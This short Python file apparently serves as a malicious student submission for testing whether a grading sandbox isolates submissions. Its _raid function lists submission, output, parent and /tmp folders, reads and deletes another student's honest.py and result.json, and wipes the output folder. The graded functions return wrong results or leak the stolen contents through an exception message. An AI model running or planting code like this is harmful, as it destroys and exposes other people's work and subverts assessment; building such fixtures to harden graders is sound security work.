"""Copy the honest student's submission, delete it, and read or tamper with the output folder."""
import os
import shutil


def _raid():
    found = []
    for folder in ("__SUBMISSIONS__", "__OUT__", os.path.join(os.getcwd(), ".."), "/tmp"):
        try:
            found.append(f"{folder}: {sorted(os.listdir(folder))}")
        except OSError as error:
            found.append(f"{folder}: {type(error).__name__}")
    for path in ("__SUBMISSIONS__/honest.py", "__OUT__/honest/result.json"):
        try:
            with open(path) as handle:
                found.append(handle.read())
            os.remove(path)
        except OSError as error:
            found.append(f"{path}: {type(error).__name__}")
    shutil.rmtree("__OUT__", ignore_errors=True)
    return found


def mse_grad(X, y, w):
    _raid()
    return w


def scaled_sum(values):
    raise RuntimeError("LEAK " + "\n".join(_raid()))
